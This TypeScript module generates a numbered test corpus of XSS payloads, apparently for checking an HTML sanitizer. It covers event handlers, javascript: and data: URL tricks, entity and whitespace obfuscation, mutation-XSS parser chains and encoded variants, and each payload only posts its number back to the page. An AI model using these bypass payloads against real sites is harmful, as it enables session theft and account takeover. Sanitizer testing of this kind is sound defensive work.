/** XSS payloads by family; each posts its number when it runs. */

export interface Payload {
  id: number;
  html: string;
}

/** Works from a page or any frame; without quotes and spaces. */
const runOf = (id: number): string => `top.postMessage(${id},String.fromCharCode(42))`;

type Family = (run: string) => string[];

const entities = (text: string, one: (code: number) => string): string =>
  [...text].map((letter) => one(letter.codePointAt(0) ?? 0)).join('');

const mixedCase: Family = (run) => [
  `<ScRiPt>${run}</sCrIpT>`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<sVg OnLoAd=${run}>`,
  `<iFrAmE sRcDoC="<script>${run}</script>"></iFrAmE>`,
];

/** Elements that run alone or when touched. */
const handlers: Family = (run) => [
  ...['script', 'img', 'audio', 'video', 'embed', 'object', 'link', 'input type=image'].map(
    (tag) => `<${tag} src=x data=x href=x rel=stylesheet onerror=${run}>`,
  ),
  ...['svg', 'iframe', 'style', 'body', 'frameset', 'object data=data:,', 'embed src=data:,'].map(
    (tag) => `<${tag} onload=${run}></${tag.split(' ')[0]}>`,
  ),
  ...[
    'input',
    'select',
    'textarea',
    'button',
    'a href=x',
    'div tabindex=0',
    'summary',
    'p contenteditable',
  ].map((tag) => `<${tag} autofocus onfocus=${run}>x</${tag.split(' ')[0]}>`),
  ...[
    'click',
    'mouseover',
    'pointerenter',
    'copy',
    'paste',
    'wheel',
    'contextmenu',
    'drag',
    'auxclick',
    'beforeinput',
  ].map((name) => `<p on${name}=${run}>x</p>`),
  ...[
    'li',
    'td',
    'th',
    'h2',
    'strong',
    'em',
    'ul',
    'ol',
    'br',
    'table',
    'tbody',
    'thead',
    'tr',
  ].map((tag) => `<table><tr><td><${tag} onmouseover=${run}>x</${tag}></td></tr></table>`),
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio><source src=x onerror=${run}></audio>`,
  `<video poster=x onloadstart=${run} src=x></video>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<marquee width=0 loop=1 onfinish=${run}>x</marquee>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><image href=x onerror=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=data:,${run}></script></svg>`,
  `<math><mtext onclick=${run}>x</mtext></math>`,
  `<div popover id=x onbeforetoggle=${run}>x</div><button popovertarget=x>y</button>`,
  `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=${run}>x</p>`,
  `<form onsubmit=${run}><button>x</button></form>`,
  `<dialog open onclose=${run}>x</dialog>`,
  `<object data=x onerror=${run}></object>`,
];

/** Spellings of an attribute that browsers still read. */
const writings: Family = (run) => [
  ...[' ', '/', '\t', '\n', '\f', '\r', '/ /', '//'].map(
    (gap) => `<img${gap}src=x${gap}onerror=${run}>`,
  ),
  ...['"', "'", ''].map((quote) => `<img src=${quote}x${quote} onerror=${quote}${run}${quote}>`),
  ...['=', ' = ', '\n=\n', '\t=\f'].map((equals) => `<img src=x onerror${equals}${run}>`),
  `<img src=x onerror=&#${'116'};op.postMessage(${run.slice('top.postMessage('.length)}>`,
  `<img src=x onerror="${entities(run, (code) => `&#${code};`)}">`,
  `<img src=x onerror="${entities(run, (code) => `&#x${code.toString(16)}`)};">`,
  `<img src=x onerror="${entities(run, (code) => `&#0000${code};`)}">`,
  `<img src=x alt="&quot;" onerror=${run}>`,
  `<img src="x" alt=">" onerror=${run}>`,
  `<img src=x"onerror=${run}>`,
  `<img """><script>${run}</script>">`,
  `<img src=x onerror=${run} `,
  `<img src=x onerror=${run}//`,
  `<<img src=x onerror=${run}>`,
  `<p/<img src=x onerror=${run}>`,
  `<a"><img src=x onerror=${run}>`,
  `<image src=x onerror=${run}>`,
  `<img src=x onerror=${run} onerror=x>`,
  `<img src=x xmlns=y x:onload=1 onerror=${run}>`,
];

const scripts: Family = (run) => [
  `<script>${run}</script>`,
  `<script >${run}</script >`,
  `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script><script>${run}</script></script>`,
  `</script><script>${run}</script>`,
  `<script><!--\n${run}\n--></script>`,
  `<script type=module>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script>${run}`,
  `<p>x<script>${run}</script>y</p>`,
  `<table><script>${run}</script></table>`,
];

const schemes = (run: string): string[] => {
  const plain = `javascript:${run}`;
  return [
    plain,
    `JaVaScRiPt:${run}`,
    ` ${plain}`,
    `\u0001${plain}`,
    `&#1;${plain}`,
    `&#32;&#9;${plain}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `java&#9;script:${run}`,
    `java&#10;script:${run}`,
    `java&#13;script:${run}`,
    `java&Tab;script:${run}`,
    `java&NewLine;script:${run}`,
    `javascript&colon;${run}`,
    `javascript&#58;${run}`,
    `javascript&#x3A;${run}`,
    `&#106;avascript:${run}`,
    `&#x6A;avascript:${run}`,
    `&#0000106avascript:${run}`,
    entities(plain, (code) => `&#${code};`),
    `javascript://x%0a${run}`,
    `javascript:/*https://*/${run}`,
    `javascript:void(${run})`,
    `http:javascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
    `vbscript:${run}`,
  ];
};

/** Running addresses: all spellings in links, some elsewhere. */
const addresses: Family = (run) => {
  const [plain = '', mixed = '', , , , , tab = ''] = schemes(run);
  const few = [plain, mixed, tab];
  const carriers = [
    (url: string) => `<iframe src="${url}"></iframe>`,
    (url: string) => `<form action="${url}"><button>x</button></form>`,
    (url: string) => `<form><button formaction="${url}">x</button></form>`,
    (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
    (url: string) => `<svg><a href="${url}"><text>x</text></a></svg>`,
    (url: string) => `<math href="${url}">x</math>`,
    (url: string) => `<map name=m><area href="${url}"></map>`,
    (url: string) => `<object data="${url}"></object>`,
    (url: string) => `<embed src="${url}">`,
    (url: string) => `<img src="${url}">`,
    (url: string) => `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
    (url: string) =>
      `<a href="https://contoh.id" ping="${url}" onclick="${run}" target="_self">x</a>`,
    (url: string) => `<link rel=stylesheet href="${url}">`,
  ];
  return [
    ...schemes(run).map((url) => `<a href="${url}">x</a>`),
    ...carriers.flatMap((carrier) => few.map(carrier)),
    ...schemes(run)
      .slice(-4)
      .flatMap((url) => [`<iframe src="${url}"></iframe>`, `<object data="${url}"></object>`]),
    `<base href="${plain}//"><a href="x">x</a>`,
    `<meta http-equiv=refresh content="0;url=${plain}">`,
    `<a href=${plain}>x</a>`,
    `<a href='${plain}'>x</a>`,
    `<a href="https://contoh.id" href="${plain}">x</a>`,
  ];
};

const wrappers = [
  ...[
    'xmp',
    'noscript',
    'noembed',
    'noframes',
    'iframe',
    'style',
    'title',
    'textarea',
    'plaintext',
    'template',
    'script',
  ],
  ...[
    'option',
    'select',
    'svg',
    'math',
    'listing',
    'object',
    'table',
    'caption',
    'colgroup',
    'form',
    'button',
    'frameset',
  ],
];
/** Elements that parsers read differently. */
const rawText: Family = (run) => {
  const img = `<img src=x onerror=${run}>`;
  return wrappers.flatMap((tag) => [
    `<${tag}>${img}</${tag}>`,
    `<${tag}><p title="</${tag}>${img}">x</p></${tag}>`,
    `<${tag}>&lt;img src=x onerror=${run}&gt;</${tag}>`,
    `<${tag} title="</${tag}>${img}">x`,
  ]);
};

/** Markup that changes when parsed twice. */
const mutations: Family = (run) => {
  const img = `<img src=x onerror=${run}>`;
  return [
    `<svg></p><style><a id="</style>${img}">`,
    `<svg><p><style><a id="</style>${img}"></p></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<math><mtext><table><mglyph><style><math><img src=x onerror=${run}>`,
    `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${img}">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>${img}">`,
    `<math><mtext><mglyph><svg><mtext><style><path id="</style>${img}">`,
    `<math><mi><mglyph><malignmark><style><img src=x onerror=${run}></style>`,
    `<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>`,
    `<math><annotation-xml encoding=TEXT/HTML><xmp>${img}</xmp></annotation-xml></math>`,
    `<svg><foreignObject><xmp>${img}</xmp></foreignObject></svg>`,
    `<svg><desc><title><style>${img}</style></title></desc></svg>`,
    `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
    `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`,
    `<svg><textarea><title>${img}</title></textarea></svg>`,
    `<noscript><style></noscript>${img}</style>`,
    `<select><template><style></template>${img}</style></select>`,
    `<table><tr><td><svg><table><style>${img}</style></table></svg></td></tr></table>`,
    `<a><a><style><a title="</style>${img}">`,
    `<p><form><form><p>${img}`,
    `<option><style></option></select>${img}</style>`,
    `<template><s><template><s><img src=x onerror=${run}></s></template></s></template>`,
    `<div><template shadowrootmode=open>${img}</template></div>`,
    `${'<div>'.repeat(60)}${img}`,
    `${'<svg>'.repeat(45)}<style>${img}`,
    `<iframe srcdoc="${img}"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
    `<iframe srcdoc='<svg onload=${run}>'></iframe>`,
  ];
};

const comments: Family = (run) => {
  const img = `<img src=x onerror=${run}>`;
  return [
    `<!-->${img}-->`,
    `<!--->${img}-->`,
    `<!--x--!>${img}-->`,
    `<!--<img src="-->${img}">-->`,
    `<!---->${img}`,
    `<![CDATA[${img}]]>`,
    `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
    `<?x ${img}?>`,
    `<!x ${img}>`,
    `</ ${img}>`,
    `<!doctype html "${img}">`,
    `<%${img}%>`,
  ];
};

const styles: Family = (run) => [
  `<p style="background:url(javascript:${run})">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="-moz-binding:url(javascript:${run});behavior:url(x)">x</p>`,
  `<style>*{background:url("javascript:${run}")}</style><p>x</p>`,
  `<style>@import "javascript:${run}";</style>`,
  `<style></style/><img src=x onerror=${run}></style>`,
  `<p style="x:</style><img src=x onerror=${run}>">x</p>`,
];

/** Encodings by the specification's clients, and double encodings (K10). */
const encodings: Family = (run) => {
  const img = `<img src=x onerror=${run}>`;
  return [
    encodeURIComponent(img),
    encodeURIComponent(`<svg onload=${run}>`),
    encodeURIComponent(encodeURIComponent(img)),
    `<p>${encodeURIComponent(img)}</p>`,
    `<p>&lt;img src=x onerror=${run}&gt;</p>`,
    `<p>&amp;lt;img src=x onerror=${run}&amp;gt;</p>`,
    `+ADw-img src=x onerror=${run}+AD4-`,
    `<im\u0000g src=x onerror=${run}>`,
    `<img src=x oner\u0000ror=${run}>`,
    `\ufeff${img}`,
    `\u2028${img}`,
    `\uff1cimg src=x onerror=${run}\uff1e${img}`,
  ];
};

const families: Family[] = [
  ...[
    mixedCase,
    handlers,
    writings,
    scripts,
    addresses,
    rawText,
    mutations,
    comments,
    styles,
    encodings,
  ],
];

export function xssPayloads(): Payload[] {
  // Each text contains its final number.
  let next = 0;
  return families.flatMap((family) => {
    const first = next;
    next += family('').length;
    return Array.from({ length: next - first }, (_, index) => ({
      id: first + index,
      html: family(runOf(first + index))[index] ?? '',
    }));
  });
}
